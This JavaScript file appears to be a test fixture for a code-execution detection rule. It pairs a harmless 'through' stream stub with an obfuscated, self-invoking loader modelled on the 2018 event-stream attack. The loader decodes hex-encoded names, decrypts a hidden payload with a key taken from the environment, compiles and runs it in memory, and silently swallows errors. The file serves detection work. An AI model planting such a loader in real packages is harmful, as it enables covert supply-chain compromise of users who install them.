'use strict';
var Stream = require('stream').Stream;

module.exports = function through() {
  var s = new Stream();
  s.writable = true;
  return s;
};

// A loader in the style of the 2018 event-stream attack: module and property names are hex strings kept in
// another file, the payload is decrypted with a key from the environment and compiled as a module in memory.
!function () {
  try {
    var r = require, t = process;
    function e(x) { return Buffer.from(x, 'hex').toString(); }
    var n = r(e('2e2f746573742f64617461'));
    var key = t[e(n[3])][e(n[4])];
    if (!key) return;
    var d = r(e(n[2]))[e(n[6])](e(n[5]), key);
    var code = d.update(n[0], e(n[8]), e(n[9]));
    code += d.final(e(n[9]));
    var m = new module.constructor();
    m.paths = module.paths;
    // ruleid: code/code-execution
    m[e(n[7])](code, '');
    m.exports(n[1]);
  } catch (err) {}
}();
